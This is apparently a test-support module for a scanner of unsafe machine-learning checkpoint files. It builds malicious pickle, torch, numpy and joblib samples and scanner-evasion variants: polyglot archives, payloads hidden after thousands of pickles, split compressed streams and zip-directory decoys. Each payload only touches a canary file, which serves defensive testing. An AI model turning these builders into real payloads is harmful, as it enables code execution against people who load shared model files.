    "zip_missing_record": (odd_zip_missing_record, "zip-missing-record"),
    "zip_short_record": (odd_zip_short_record, "storage-size-mismatch"),
    "setitem_on_list": (odd_setitem_on_list, "container-type-confusion"),
    "zip_setitem_on_list": (odd_zip_setitem_on_list, "container-type-confusion"),
    "zip_compressed_data_pkl": (odd_zip_compressed_data_pkl, "zip-compressed-pickle"),
}


def build_corpus(folder: Path, canary: Path, kinds: tuple[str, ...] = ("benign", "odd",
                 "malicious")) -> dict[str, dict[str, Path]]:
    """Build the benign, odd and malicious samples (`kinds`) into `folder`: {kind: {name: path}}.
    Nothing is ever loaded here; malicious payloads target `canary`. Files are named *.bin."""
    folder = Path(folder)
    out: dict[str, dict[str, Path]] = {kind: {} for kind in kinds}
    for kind in out:
        (folder / kind).mkdir(parents=True, exist_ok=True)
    for name, build in BENIGN_BUILDERS.items() if "benign" in out else ():
        out["benign"][name] = build(folder / "benign" / f"{name}.bin")
    for name, (build, _) in ODD_BUILDERS.items() if "odd" in out else ():
        out["odd"][name] = build(folder / "odd" / f"{name}.bin")
    for name, build in MALICIOUS_BUILDERS.items() if "malicious" in out else ():
        out["malicious"][name] = build(folder / "malicious" / f"{name}.bin", canary)
    for sub in out:  # helper files some builders leave behind
        for extra in (folder / sub).glob("_*"):
            extra.unlink()
    return out


def corpus_fixture(tmp_path_factory, kinds: tuple[str, ...] = ("benign", "odd", "malicious")
                   ) -> tuple[dict[str, dict[str, Path]], Path]:
    """Body of a corpus fixture: (build_corpus(...), canary), built into a fresh folder."""
    folder = tmp_path_factory.mktemp("scan-corpus")
    canary = folder / "CANARY_EXECUTED"
    return build_corpus(folder, canary, kinds), canary


def save_with_namespace(path: Path) -> Path:
    """A checkpoint carrying argparse.Namespace run arguments, including a shell command line."""
    import argparse

    args = argparse.Namespace(lr=3e-4, cmd="torchrun train.py --lr 3e-4 && python eval.py")
    return save_state_dict(path, {"model": small_state_dict(), "args": args})


BENIGN_BUILDERS["namespace_args"] = save_with_namespace


# ---------------------------------------------------------------------------------------------
# Adversarial builders (issue 12): builder(path, canary) -> path, each with the loader that
# runs its payload. Loaders: "pickle" (pickle.load), "pickle-all" (pickle.load until the end,
# as a reader of back-to-back pickles does), "torch" (torch.load(weights_only=False)),
# "torch-at" (torch.load of the bytes from the second archive on, as torch.distributed.checkpoint
# reads one item of a .distcp file), "numpy" (numpy.load(allow_pickle=True), every npz member),
# "joblib" (the compressed-pickle reading of joblib: magic -> decompressor, every member of a
# multi-member stream, then pickle.load), "dcp" (torch.distributed.checkpoint's read_metadata).
# ---------------------------------------------------------------------------------------------


def _reduce(module: str, name: str, *args: bytes, proto: bytes = PROTO2) -> bytes:
    """A pickle body (no STOP) that calls module.name(*args), args being pickled operands."""
    return proto + p_global(module, name) + MARK + b"".join(args) + TUPLE + REDUCE


def _npy(descr: str, payload: bytes, version: int = 1) -> bytes:
    """A .npy file whose header declares `descr` and whose data is `payload`."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}"
    size = 4 if version > 1 else 2
    pad = 64 - (6 + 2 + size + len(header) + 1) % 64
    header = (header + " " * pad + "\n").encode("utf-8" if version == 3 else "latin-1")
    return (b"\x93NUMPY" + bytes([version, 0]) + len(header).to_bytes(size, "little") + header
            + payload)


def adv_truncated_after_reduce(path: Path, canary: Path) -> Path:
    """The payload's REDUCE runs before pickle.load reaches the truncated end."""
    return _write(path, _reduce("os", "system", p_unicode(touch_cmd(canary))) + b"X\xff\xff")


def adv_bad_opcode_after_reduce(path: Path, canary: Path) -> Path:
    """An undefined opcode after the payload: the load fails, after the payload ran."""
    return _write(path, _reduce("os", "system", p_unicode(touch_cmd(canary))) + b"\xff.")


def adv_deep_marks_after_payload(path: Path, canary: Path) -> Path:
    """200,000 nested MARKs after the payload (a resource bomb for recursive scanners)."""
    data = _reduce("os", "system", p_unicode(touch_cmd(canary))) + MARK * 200_000 + b"N"
    return _write(path, data + STOP)


def adv_huge_memo_after_payload(path: Path, canary: Path) -> Path:
    """300,000 memo entries after the payload."""
    puts = b"".join(b"r" + struct.pack("<I", i) for i in range(300_000))
    return _write(path, _reduce("os", "system", p_unicode(touch_cmd(canary))) + puts + STOP)


def adv_payload_after_100_pickles(path: Path, canary: Path) -> Path:
    """The payload is the 101st of back-to-back pickles (past any small count cap)."""
    return _write(path, b"\x80\x02N." * 100 + call("os", "system", touch_cmd(canary)))


def adv_payload_after_3000_pickles(path: Path, canary: Path) -> Path:
    """The payload is the 3001st of back-to-back pickles."""
    return _write(path, b"\x80\x02K\x01." * 3000 + call("os", "system", touch_cmd(canary)))


def _tar(members: dict[str, bytes], tar_format: str = "pax") -> bytes:
    """A tar archive of these members, in tarfile's PAX (or `tar_format` "gnu") format."""
    import tarfile

    out = io.BytesIO()
    fmt = tarfile.GNU_FORMAT if tar_format == "gnu" else tarfile.PAX_FORMAT
    with tarfile.open(fileobj=out, mode="w", format=fmt) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _legacy_tar(storages: bytes, tensors: bytes, pickle_member: bytes) -> bytes:
    import pickle

    return _tar({"sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True},
                                          protocol=2),
                 "storages": storages, "tensors": tensors, "pickle": pickle_member})


def adv_legacy_tar_storages(path: Path, canary: Path) -> Path:
    """torch's legacy tar format; the payload is the `storages` member's first pickle."""
    payload = call("os", "system", touch_cmd(canary))
    return _write(path, _legacy_tar(payload, b"\x80\x02K\x00.", b"\x80\x02}."))


def adv_legacy_tar_tensors(path: Path, canary: Path) -> Path:
    """Legacy tar; the payload is the `tensors` member's first pickle."""
    payload = call("os", "system", touch_cmd(canary))
    return _write(path, _legacy_tar(b"\x80\x02K\x00.\x80\x02].", payload, b"\x80\x02}."))


def adv_legacy_tar_pickle(path: Path, canary: Path) -> Path:
    """Legacy tar; the payload is the `pickle` member (the object itself)."""
    payload = call("os", "system", touch_cmd(canary))
    return _write(path, _legacy_tar(b"\x80\x02K\x00.\x80\x02].", b"\x80\x02K\x00.", payload))


def adv_tar_pickle_polyglot(path: Path, canary: Path) -> Path:
    """A valid tar whose first bytes (the first member's name) are a protocol 0 pickle
    payload: tar readers see a benign archive, pickle.load runs the payload."""
    import tarfile

    code = b"cos\nsystem\n(S'touch " + str(canary).encode() + b"'\ntR."
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo(code.decode())
        info.size = 5
        tar.addfile(info, io.BytesIO(b"hello"))
    return _write(path, out.getvalue())


def adv_zip_data_pkl_last(path: Path, canary: Path) -> Path:
    """A torch zip whose data.pkl is the last member, after a record of another name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr("w/version", b"3\n")
        z.writestr("w/byteorder", b"little")
        z.writestr("w/data.pkl", call("os", "system", touch_cmd(canary)))
    return _write(path, out.getvalue())


def adv_distcp_second_archive(path: Path, canary: Path) -> Path:
    """A .distcp-style file: a benign torch.save archive, then a malicious one."""
    src = _torch_zip_bytes(Path(path).parent)
    bad = _rewrite_zip(src, {"/data.pkl": call("os", "system", touch_cmd(canary))})
    return _write(path, src + bad)


def adv_npz_member_without_extension(path: Path, canary: Path) -> Path:
    """An npz member named without .npy: numpy still parses it by its magic."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("weights", _npy("'|O'", call("os", "system", touch_cmd(canary))))
    return _write(path, out.getvalue())


def _npy_builder(descr: str, version: int = 1) -> Callable[[Path, Path], Path]:
    def build(path: Path, canary: Path) -> Path:
        return _write(path, _npy(descr, call("os", "system", touch_cmd(canary)), version))

    build.__doc__ = f".npy whose descr {descr} holds Python objects (format {version}.0)"
    return build


def _joblib_split(compress: Callable[[bytes], bytes]) -> Callable[[Path, Path], Path]:
    def build(path: Path, canary: Path) -> Path:
        payload = call("os", "system", touch_cmd(canary))
        half = len(payload) // 2
        return _write(path, compress(payload[:half]) + compress(payload[half:]))

    build.__doc__ = "a payload pickle split across two members of one compressed stream"
    return build


def adv_zlib_raw(path: Path, canary: Path) -> Path:
    """A raw zlib stream (what joblib writes for compress='zlib')."""
    import zlib

    return _write(path, zlib.compress(call("os", "system", touch_cmd(canary))))


def adv_lzma_alone(path: Path, canary: Path) -> Path:
    """An LZMA-alone (.lzma) stream (joblib's compress='lzma')."""
    import lzma

    return _write(path, lzma.compress(call("os", "system", touch_cmd(canary)),
                                      format=lzma.FORMAT_ALONE))


def _global_call(module: str, name: str, *args: str | bytes | list[str],
                 proto: bytes = PROTO2) -> Callable[[Path, Path], Path]:
    """Builder of `module.name(*args)`: text arguments (`{canary}` replaced by the path), lists
    of text, or raw opcodes (bytes)."""
    def operand(arg: str | bytes | list[str], canary: Path) -> bytes:
        if isinstance(arg, bytes):
            return arg
        if isinstance(arg, list):
            return MARK + b"".join(operand(a, canary) for a in arg) + b"l"
        return p_unicode(arg.replace("{canary}", str(canary)))

    def build(path: Path, canary: Path) -> Path:
        ops = [operand(a, canary) for a in args]
        if proto == PROTO4:
            head = PROTO4 + p_short_unicode(module) + p_short_unicode(name) + STACK_GLOBAL
            return _write(path, head + MARK + b"".join(ops) + TUPLE + REDUCE + STOP)
        return _write(path, _reduce(module, name, *ops, proto=proto) + STOP)

    build.__doc__ = f"{module}.{name}(...) creating the canary"
    return build


def adv_typing_eval_type(path: Path, canary: Path) -> Path:
    """typing._eval_type evaluates a ForwardRef's text: code in a type annotation."""
    expr = f"__import__('os').system({touch_cmd(canary)!r})"
    fwd = _reduce("typing", "ForwardRef", p_unicode(expr))[2:]
    data = PROTO2 + p_global("typing", "_eval_type") + MARK + fwd + EMPTY_DICT + EMPTY_DICT
    return _write(path, data + TUPLE + REDUCE + STOP)


def adv_ndarray_tofile(path: Path, canary: Path) -> Path:
    """numpy.ndarray.tofile writes an array to a path (protocol 4 dotted name)."""
    arr = (p_short_unicode("numpy") + p_short_unicode("array") + STACK_GLOBAL + MARK
           + EMPTY_LIST + b"K\x01" + APPEND + TUPLE + REDUCE)
    head = PROTO4 + p_short_unicode("numpy") + p_short_unicode("ndarray.tofile") + STACK_GLOBAL
    data = head + MARK + arr + p_unicode(str(canary)) + TUPLE + REDUCE + STOP
    return _write(path, data)


def adv_pathlib_touch(path: Path, canary: Path) -> Path:
    """pathlib.Path (a known data class) then Path.touch on it: the method is not data."""
    p = PROTO4 + p_short_unicode("pathlib") + p_short_unicode("Path") + STACK_GLOBAL
    obj = p[2:] + MARK + p_unicode(str(canary)) + TUPLE + REDUCE
    head = PROTO4 + p_short_unicode("pathlib") + p_short_unicode("Path.touch") + STACK_GLOBAL
    return _write(path, head + MARK + obj + TUPLE + REDUCE + STOP)


def adv_getattr_import_module(path: Path, canary: Path) -> Path:
    """getattr(importlib.import_module('os'), 'system')(cmd)."""
    mod = _reduce("importlib", "import_module", p_unicode("os"))[2:]
    func = _reduce("builtins", "getattr", mod, p_unicode("system"))[2:]
    return _write(path, PROTO2 + func + MARK + p_unicode(touch_cmd(canary)) + TUPLE + REDUCE
                  + STOP)


def adv_memmap(path: Path, canary: Path) -> Path:
    """numpy.memmap in write mode creates (and sizes) the file it is given."""
    shape = b"K\x01" + TUPLE1
    return _write(path, _reduce("numpy", "memmap", p_unicode(str(canary)), p_unicode("uint8"),
                                p_unicode("w+"), b"K\x00", shape) + STOP)


def adv_pickle_loads_alias(path: Path, canary: Path) -> Path:
    """_pickle.loads (the C module pickle.loads comes from) of an inner payload."""
    inner = call("os", "system", touch_cmd(canary))
    data = _reduce("_pickle", "loads", b"C" + bytes([len(inner)]) + inner, proto=PROTO4)
    return _write(path, data + STOP)


ADVERSARIAL_BUILDERS: dict[str, tuple[str, Callable[[Path, Path], Path]]] = {
    # never crash, never hide
    "truncated_after_reduce": ("pickle", adv_truncated_after_reduce),
    "bad_opcode_after_reduce": ("pickle", adv_bad_opcode_after_reduce),
    "deep_marks_after_payload": ("pickle", adv_deep_marks_after_payload),
    "huge_memo_after_payload": ("pickle", adv_huge_memo_after_payload),
    "payload_after_100_pickles": ("pickle-all", adv_payload_after_100_pickles),
    "payload_after_3000_pickles": ("pickle-all", adv_payload_after_3000_pickles),
    # what a loader reads: torch's legacy tar, zips whatever their order, polyglots
    "legacy_tar_storages": ("torch", adv_legacy_tar_storages),
    "legacy_tar_tensors": ("torch", adv_legacy_tar_tensors),
    "legacy_tar_pickle": ("torch", adv_legacy_tar_pickle),
    "tar_pickle_polyglot": ("pickle", adv_tar_pickle_polyglot),
    "zip_data_pkl_last": ("torch", adv_zip_data_pkl_last),
    "distcp_second_archive": ("torch-at", adv_distcp_second_archive),
    # NumPy descr grammar
    "npz_member_without_extension": ("numpy", adv_npz_member_without_extension),
    "npy_descr_object_word": ("numpy", _npy_builder("'object'")),
    "npy_descr_O8": ("numpy", _npy_builder("'O8'")),
    "npy_descr_struct_field": ("numpy", _npy_builder("[('a', '<i4'), ('b', '|O')]")),
    "npy_descr_subarray": ("numpy", _npy_builder("('|O', (2,))")),
    "npy_descr_nested_struct": ("numpy", _npy_builder("[('outer', [('inner', '|O')])]")),
    "npy_descr_titled_field": ("numpy", _npy_builder("[(('title', 'name'), '|O')]")),
    "npy_descr_field_shape": ("numpy", _npy_builder("[('a', '|O', (2,))]")),
    "npy_descr_field_subarray": ("numpy", _npy_builder("[('a', ('|O', (3,)))]")),
    "npy_version_2": ("numpy", _npy_builder("'|O'", 2)),
    "npy_version_3": ("numpy", _npy_builder("'|O'", 3)),
    # compression wrappers
    "gzip_split_members": ("joblib", _joblib_split(lambda b: __import__("gzip").compress(b))),
    "bz2_split_streams": ("joblib", _joblib_split(lambda b: __import__("bz2").compress(b))),
    "xz_split_streams": ("joblib", _joblib_split(lambda b: __import__("lzma").compress(b))),
    "zlib_split_streams": ("joblib", _joblib_split(lambda b: __import__("zlib").compress(b))),
    "zlib_raw": ("joblib", adv_zlib_raw),
    "lzma_alone": ("joblib", adv_lzma_alone),
    # globals by capability
    "typing_eval_type": ("pickle", adv_typing_eval_type),
    "ndarray_tofile": ("pickle", adv_ndarray_tofile),
    "untyped_storage_from_file": ("pickle", _global_call(
        "torch", "UntypedStorage.from_file", "{canary}", b"\x88", b"K\x10",
        proto=PROTO4)),
    "sqlite3_connect": ("pickle", _global_call("sqlite3", "connect", "{canary}")),
    "builtins_open": ("pickle", _global_call("builtins", "open", "{canary}", "w")),
    "io_open_alias": ("pickle", _global_call("_io", "open", "{canary}", "w")),
    "codecs_open": ("pickle", _global_call("codecs", "open", "{canary}", "w")),
    "zipfile_writer": ("pickle", _global_call("zipfile", "ZipFile", "{canary}",
                                              "w")),
    "tarfile_writer": ("pickle", _global_call("tarfile", "open", "{canary}", "w")),
    "shutil_copy": ("pickle", _global_call("shutil", "copyfile", "/etc/hostname",
                                           "{canary}")),
    "subprocess_popen": ("pickle", _global_call("subprocess", "Popen", ["touch", "{canary}"])),
    "numpy_memmap": ("pickle", adv_memmap),
    "numpy_savetxt": ("pickle", _global_call("numpy", "savetxt", "{canary}",
                                             EMPTY_LIST + b"K\x01" + APPEND)),
    "torch_save": ("pickle", _global_call("torch", "save", b"K\x01", "{canary}")),
    "pathlib_touch": ("pickle", adv_pathlib_touch),
    "getattr_import_module": ("pickle", adv_getattr_import_module),
    "profile_run": ("pickle", _global_call(
        "profile", "run", "__import__('pathlib').Path('{canary}').touch()")),
    "pickle_loads_alias": ("pickle", adv_pickle_loads_alias),
}


# ---------------------------------------------------------------------------------------------
# Fuzzing (issue 12): seed files of every format the scanner reads, and one mutation step
# ---------------------------------------------------------------------------------------------


def fuzz_seeds(folder: Path) -> list[Path]:
    """Small files of every format the scanner reads, benign and malicious (the canary of the
    malicious ones lies in `folder`, where nothing may ever create it)."""
    import bz2
    import gzip
    import lzma

    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    canary = folder / "CANARY_EXECUTED"
    payload = call("os", "system", touch_cmd(canary))
    seeds = [save_state_dict(folder / "zip.pt"), save_legacy(folder / "legacy.pt"),
             save_safetensors(folder / "st.safetensors"), save_npy(folder / "a.npy"),
             save_npz(folder / "a.npz"), save_npy_object(folder / "o.npy"),
             save_protocol4(folder / "p4.pkl")]
    blobs = {"gz.pkl": gzip.compress(payload), "bz.pkl": bz2.compress(payload),
             "xz.pkl": lzma.compress(payload), "tar.pt": _legacy_tar(
                 b"\x80\x02K\x00.\x80\x02].", b"\x80\x02K\x00.", payload),
             "evil.pkl": payload, "memo.pkl": mal_stack_global_memo(
                 folder / "_m.pkl", canary).read_bytes()}
    for name, data in blobs.items():
        seeds.append(_write(folder / name, data))
    seeds.append(adv_distcp_second_archive(folder / "two.distcp", canary))
    return seeds


def overwrite_bytes(data: bytes, rng, most: int) -> bytes:
    """`data` with one to `most` of its bytes set to random values (`rng` a random.Random)."""
    out = bytearray(data)
    for _ in range(rng.randint(1, most)):
        out[rng.randrange(len(out))] = rng.randrange(256)
    return bytes(out)


def mutate(data: bytes, rng) -> bytes:
    """One to four random edits of `data`: bit flips, random or boundary bytes, inserted,
    deleted, repeated or truncated spans (`rng` is a random.Random, so runs repeat)."""
    out = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        n = len(out)
        at = rng.randrange(n) if n else 0
        size = min(n - at, rng.choice((1, 2, 4, 8, 64, 512)))
        op = rng.randrange(7)
        if op == 0 and n:
            out[at] ^= 1 << rng.randrange(8)
        elif op == 1:
            out[at:at + size] = bytes(rng.randrange(256) for _ in range(size))
        elif op == 2:
            out[at:at + size] = bytes([rng.choice((0, 0x7F, 0x80, 0xFF))]) * size
        elif op == 3:
            out[at:at] = bytes(rng.randrange(256) for _ in range(rng.choice((1, 4, 32))))
        elif op == 4:
            del out[at:at + size]
        elif op == 5:
            out[at:at] = out[at:at + size] * rng.choice((2, 16, 256))
        else:
            del out[at:]
    return bytes(out)


def crc_damaged(path: Path, flip_at: int = 17) -> Path:
    """A torch.save zip whose first tensor record has one flipped bit (its CRC-32 no longer
    matches the central directory); torch still loads it."""
    import torch

    torch.save({"w": torch.randn(32, 32, generator=torch.Generator().manual_seed(0))}, path)
    data = bytearray(path.read_bytes())
    info = next(i for i in zipfile.ZipFile(io.BytesIO(bytes(data))).infolist()
                if i.filename.endswith("/data/0"))
    # the local header's own name and extra lengths (torch pads the extra field to align data)
    name_len, extra_len = struct.unpack_from("<HH", data, info.header_offset + 26)
    data[info.header_offset + 30 + name_len + extra_len + flip_at] ^= 0x04
    path.write_bytes(bytes(data))
    return path


def _npz_compressed(method: int) -> Callable[[Path, Path], Path]:
    def build(path: Path, canary: Path) -> Path:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", compression=method) as z:
            z.writestr("arr_0.npy", _npy("'|O'", call("os", "system", touch_cmd(canary))))
        return _write(path, out.getvalue())

    build.__doc__ = f"an npz whose object-array member is compressed with zip method {method}"
    return build


ADVERSARIAL_BUILDERS["npz_bzip2_member"] = ("numpy", _npz_compressed(zipfile.ZIP_BZIP2))
ADVERSARIAL_BUILDERS["npz_lzma_member"] = ("numpy", _npz_compressed(zipfile.ZIP_LZMA))


def adv_legacy_tar_second_storage(path: Path, canary: Path) -> Path:
    """Legacy tar whose `storages` member holds one real storage record, then a protocol 0
    payload where torch reads the next storage's (key, location, type) pickle."""
    args = (PROTO2 + p_unicode("0") + p_unicode("cpu") + p_global("torch", "FloatStorage")
            + b"\x87" + STOP)
    payload = p_global("os", "system") + MARK + p_string(touch_cmd(canary)) + TUPLE + REDUCE
    storages = (b"\x80\x02K\x02." + args + struct.pack("<q", 2) + struct.pack("<2f", 1, 2)
                + payload + STOP)
    return _write(path, _legacy_tar(storages, b"\x80\x02K\x00.", b"\x80\x02}."))


ADVERSARIAL_BUILDERS["legacy_tar_second_storage"] = ("torch", adv_legacy_tar_second_storage)


def adv_dcp_metadata_payload(path: Path, canary: Path) -> Path:
    """A torch.distributed.checkpoint folder whose `.metadata` is a payload: DCP's
    FileSystemReader.read_metadata unpickles it with plain pickle."""
    folder = Path(path).with_suffix(".dcp")
    folder.mkdir(exist_ok=True)
    data = PROTO2 + p_global("torch.distributed.checkpoint.metadata", "Metadata")
    data += MARK + _reduce("os", "system", p_unicode(touch_cmd(canary)))[2:] + TUPLE + REDUCE
    return _write(folder / ".metadata", data + STOP)


ADVERSARIAL_BUILDERS["dcp_metadata_payload"] = ("dcp", adv_dcp_metadata_payload)


# ---------------------------------------------------------------------------------------------
# Corruption radar
# ---------------------------------------------------------------------------------------------

RADAR_FLIP = ("model.layers.3.self_attn.k_proj.weight", 77, 30)
"""(key, element, bit) that `layered_state_dict(flip=True)` flips: float32's top exponent bit."""


def layered_state_dict(layers: int = 6, flip: bool = False, seed: int = 0) -> dict:
    """A small Llama-shaped float32 state dict (embeddings, `layers` decoder layers, final norm,
    head) with weights about 0.02; `flip` flips `RADAR_FLIP`'s bit of one element."""
    import torch

    g = torch.Generator().manual_seed(seed)
    hidden, mlp, vocab = 16, 32, 40

    def w(*shape: int) -> torch.Tensor:
        return torch.randn(*shape, generator=g) * 0.02

    state = {"model.embed_tokens.weight": w(vocab, hidden)}
    for i in range(layers):
        p = f"model.layers.{i}."
        state.update({p + "self_attn.q_proj.weight": w(hidden, hidden),
                      p + "self_attn.k_proj.weight": w(hidden, hidden),
                      p + "self_attn.v_proj.weight": w(hidden, hidden),
                      p + "self_attn.o_proj.weight": w(hidden, hidden),
                      p + "mlp.gate_proj.weight": w(mlp, hidden),
                      p + "mlp.up_proj.weight": w(mlp, hidden),
                      p + "mlp.down_proj.weight": w(hidden, mlp),
                      p + "input_layernorm.weight": torch.ones(hidden),
                      p + "post_attention_layernorm.weight": torch.ones(hidden)})
    state["model.norm.weight"] = torch.ones(hidden)
    state["lm_head.weight"] = w(vocab, hidden)
    if flip:
        key, element, bit = RADAR_FLIP
        bits = state[key].reshape(-1).view(torch.int32)
        bits[element] ^= 1 << bit
    return state


def tiny_gpt2():
    """A 2-layer GPT-2 with hidden size 64, seeded random weights, tied input and output
    embeddings (the config is built here; nothing is downloaded)."""
    import torch
    import transformers

    torch.manual_seed(0)
    config = transformers.GPT2Config(
        n_layer=2, n_embd=64, n_head=2, vocab_size=1000, n_positions=64,
        bos_token_id=0, eos_token_id=0,
    )
    return transformers.GPT2LMHeadModel(config).eval()


def gpt2_layouts(root: Path, model) -> Path:
    """`model` saved under `root` as safetensors shards (`st`), `.bin` shards (`bin`), one
    safetensors file (`st-single`) and one `.bin` file (`bin-single`)."""
    model.save_pretrained(root / "st", max_shard_size="200KB")
    model.save_pretrained(root / "st-single")
    hf_bin_folder(root / "bin", model, "200KB")
    hf_bin_folder(root / "bin-single", model, None)
    assert len(list((root / "st").glob("model-*.safetensors"))) >= 3
    assert len(list((root / "bin").glob("pytorch_model-*.bin"))) >= 3
    return root


def tree_digests(folder: Path) -> dict[str, str]:
    """SHA-256 of every file under `folder`, by relative path (to prove inputs unchanged)."""
    import hashlib

    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def hf_bin_folder(folder: Path, model, max_shard_size: str | None) -> Path:
    """A `.bin` model folder as transformers 4 saved it; one file when max_shard_size is None.

    transformers 5 writes only safetensors, so the shards are `pytorch_model-0000X-of-0000N.bin`
    with the boundaries its `save_pretrained(max_shard_size=...)` chooses, plus
    `pytorch_model.bin.index.json`, and a tied `lm_head.weight` saved beside
    `transformer.wte.weight` in one storage, as transformers 4 did.
    """
    import json
    import shutil

    import torch

    staging = folder.parent / (folder.name + "-staging")
    model.save_pretrained(staging, max_shard_size=max_shard_size or "1GB")
    folder.mkdir()
    for name in ("config.json", "generation_config.json"):
        shutil.copy(staging / name, folder / name)
    state = model.state_dict()
    assert state["lm_head.weight"].data_ptr() == state["transformer.wte.weight"].data_ptr()
    if max_shard_size is None:
        torch.save(state, folder / "pytorch_model.bin")
        shutil.rmtree(staging)
        return folder
    index = json.loads((staging / "model.safetensors.index.json").read_text())
    weight_map = {}
    for shard in sorted(set(index["weight_map"].values())):
        keys = [k for k, s in index["weight_map"].items() if s == shard]
        if "transformer.wte.weight" in keys:
            keys.append("lm_head.weight")
        name = shard.replace("model-", "pytorch_model-").replace(".safetensors", ".bin")
        torch.save({k: state[k] for k in keys}, folder / name)
        weight_map.update(dict.fromkeys(keys, name))
    doc = {"metadata": {"total_size": index["metadata"]["total_size"]}, "weight_map": weight_map}
    (folder / "pytorch_model.bin.index.json").write_text(json.dumps(doc, indent=2))
    shutil.rmtree(staging)
    return folder


def dcp_state() -> dict:
    """A nested state of several dtypes and plain values, as a training run saves it."""
    import torch

    gen = torch.Generator().manual_seed(15)
    return {
        "model": {
            "embed.weight": torch.randn(16, 8, generator=gen),
            "head.weight": torch.randn(4, 8, generator=gen).to(torch.bfloat16),
            "norm.bias": torch.randn(8, generator=gen).to(torch.float16),
            "block": {"scale": torch.randn(3, 3, generator=gen).double(),
                      "mask": torch.tensor([True, False, True])},
            "positions": torch.arange(10, dtype=torch.int64),
        },
        "step": 1234,
        "name": "run-15",
        "lr": 0.001,
        "temperature": torch.tensor(0.5),
    }


def dcp_save(state: dict, folder: Path) -> Path:
    """`state` saved by the real `dcp.save` in one process (no process group)."""
    import warnings

    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "assuming the intent is to save in a single process"
        dcp.save(state, checkpoint_id=str(folder))
    return folder


DCP_DATA = "__0_0.distcp"
"""The data file `dcp_save` writes (one process: rank 0's only file)."""


def dcp_metadata(folder: Path):
    """The folder's `.metadata` unpickled (a file a test wrote), to edit and write back."""
    import pickle

    return pickle.loads((folder / ".metadata").read_bytes())


def dcp_write_chunks(folder: Path, full: dict, chunks: dict) -> None:
    """What FileSystemWriter writes when ranks hold chunks of `full`'s tensors: rank r's items
    (`chunks[fqn]` = [(offsets, sizes)] by rank) in __r_0.distcp, back to back."""
    import pickle

    import torch
    from torch.distributed.checkpoint.filesystem import _StorageInfo
    from torch.distributed.checkpoint.metadata import (
        ChunkStorageMetadata,
        Metadata,
        MetadataIndex,
        TensorProperties,
        TensorStorageMetadata,
    )

    folder.mkdir()
    storage, tensors = {}, {}
    files: dict[str, bytearray] = {}
    for fqn, parts in chunks.items():
        t = full[fqn]
        metas = []
        for rank, (offsets, sizes) in enumerate(parts):
            piece = t[tuple(slice(o, o + s) for o, s in zip(offsets, sizes, strict=True))]
            name = f"__{rank}_0.distcp"
            buf = io.BytesIO()
            torch.save(piece.clone(), buf)
            data = files.setdefault(name, bytearray())
            storage[MetadataIndex(fqn, torch.Size(offsets), rank)] = _StorageInfo(
                name, len(data), len(buf.getvalue()))
            data += buf.getvalue()
            metas.append(ChunkStorageMetadata(torch.Size(offsets), torch.Size(sizes)))
        tensors[fqn] = TensorStorageMetadata(TensorProperties.create_from_tensor(t), t.shape,
                                             metas)
    for name, data in files.items():
        (folder / name).write_bytes(bytes(data))
    metadata = Metadata(tensors, {k: (k,) for k in tensors}, storage)
    (folder / ".metadata").write_bytes(pickle.dumps(metadata))


# --- adversarial hunt: zip readings where Python's zipfile (numpy.load) and torch's miniz differ


def _hunt_local(name: str, data: bytes) -> bytes:
    """A stored zip local header and its data."""
    import zlib

    raw = name.encode()
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(data),
                       len(data), len(data), len(raw), 0) + raw + data


def _hunt_central(name: str, data: bytes, offset: int) -> bytes:
    """A central-directory entry for a stored member whose local header is at `offset`."""
    import zlib

    raw = name.encode()
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0,
                       zlib.crc32(data), len(data), len(data), len(raw), 0, 0, 0, 0, 0,
                       offset) + raw


def _hunt_eocd(entries: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, cd_size, cd_offset, 0)


def _hunt_plain_npy() -> bytes:
    return _npy_plain("{'descr': '<f4', 'fortran_order': False, 'shape': (256,), }",
                      bytes(1024))


def _npy_plain(header: str, payload: bytes) -> bytes:
    pad = 64 - (6 + 2 + 2 + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text + payload


def hunt_npz_zipfile_shift(path: Path, canary: Path) -> Path:
    """An npz whose end record's directory offset is not where its directory lies: miniz (and
    a reader trusting the offset) finds a decoy directory listing a plain array, while Python's
    zipfile, which numpy.load uses, shifts every offset by the difference (the allowance it
    makes for data prepended to an archive) and reads an object-array payload instead."""
    evil = _npy("'|O'", call("os", "system", touch_cmd(canary)))
    benign = _hunt_plain_npy()
    decoy, real = _hunt_local("a.npy", benign), _hunt_local("a.npy", evil)
    assert len(decoy) >= len(real)
    decoy_cd = _hunt_central("a.npy", benign, 0)
    real_cd = _hunt_central("a.npy", evil, len(decoy) - len(real))
    data = decoy + decoy_cd + real + real_cd + _hunt_eocd(1, len(real_cd), len(decoy))
    return _write(path, data)


def hunt_npz_entry_count(path: Path, canary: Path) -> Path:
    """An npz whose end record counts one entry while its directory holds two: zipfile reads
    the directory by its size (numpy.load lists both), a reader trusting the count one."""
    evil = _npy("'|O'", call("os", "system", touch_cmd(canary)))
    benign = _hunt_plain_npy()
    first, second = _hunt_local("a.npy", benign), _hunt_local("b.npy", evil)
    cd = _hunt_central("a.npy", benign, 0) + _hunt_central("b.npy", evil, len(first))
    return _write(path, first + second + cd + _hunt_eocd(1, len(cd), len(first) + len(second)))


